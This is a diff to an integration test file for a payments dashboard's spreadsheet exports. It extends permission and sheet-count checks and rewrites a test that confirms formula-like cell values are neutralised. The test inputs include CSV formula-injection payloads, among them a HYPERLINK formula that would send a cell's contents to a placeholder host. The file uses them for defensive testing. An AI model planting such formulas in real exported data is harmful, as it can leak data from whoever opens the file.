@@ -16,7 +16,6 @@ from pymongo.database import Database
 
 from app.domain.permissions import Role
 from app.models.payment_row import row_of
-from app.services.tables import harmless
 from tests.integration.dashboards.browsing import PASSWORD
 from tests.integration.dashboards.pages import csrf_of, enter
 from tests.integration.dashboards.test_payments_list import FILTERS, walk
@@ -50,6 +49,9 @@ def test_a_viewer_may_not_export(app: Flask) -> None:
         "payments.xlsx",
         "refunds.csv",
         "disputes.xlsx",
+        "hours.csv",
+        "three_d_secure.csv",
+        "times.csv",
         "figures.csv",
         "figures.xlsx",
     ):
@@ -90,15 +92,25 @@ def test_columns_are_stable_and_values_exact(
 
 
 @pytest.mark.parametrize(
-    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠a"]
+    ("text", "filed"),
+    [
+        *(
+            (text, f"'{text}")
+            for text in ("=1+1", "+1", "-1", "@SUM(A1)", "  =1", "＝1", "＋1", "－1", "＠a")
+        ),
+        *(("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("\ta", "'\ta")),
+        ('a;=HYPERLINK("http://x?"&A1);b', 'a;\'=HYPERLINK("http://x?"&A1);b'),
+        ('a; "=1";-b|+c', "a;' \"=1\";'-b|'+c"),
+        ("first\r\n-second", "first\r\n'-second"),
+        ("a-b; c=d, -e", "a-b; c=d, -e"),
+    ],
 )
 def test_what_looks_like_a_formula_is_text(
-    finance: FlaskClient, database: Database[dict[str, Any]], text: str
+    finance: FlaskClient, database: Database[dict[str, Any]], text: str, filed: str
 ) -> None:
-    assert harmless(text) == f"'{text}"
     database.payments.insert_many([stored.payment(1, order_id=text, description=text)])
     (row,) = rows_of(finance.get(PATH).text)
-    assert row["order_id"] == row["description"] == f"'{text}"
+    assert row["order_id"] == row["description"] == filed
     cells = sheet(download(finance, "payments.xlsx"))
     assert ("inlineStr", text.replace("\r", "_x000D_")) == cells[1]["I"] or cells[1]["I"][
         1
@@ -142,6 +154,9 @@ def test_the_other_files(finance: FlaskClient, database: Database[dict[str, Any]
     assert sum(int(row["failed_attempts"]) for row in reasons) == int(reasons[0]["of_failed_attempts"])
     book = download(finance, f"figures.xlsx?{query}")
     assert len(sheet(book, 1)) == 49 and len(sheet(book, 3)) == len(reasons) + 1
+    for number, name in ((4, "three_d_secure"), (5, "times"), (6, "hours")):
+        rows = rows_of(finance.get(f"/dashboard/{name}.csv?{query}").text)
+        assert len(sheet(book, number)) == len(rows) + 1 > 12, name
     for name in ("refunds.xlsx", "disputes.xlsx"):
         assert len(sheet(download(finance, name))) > 1
 
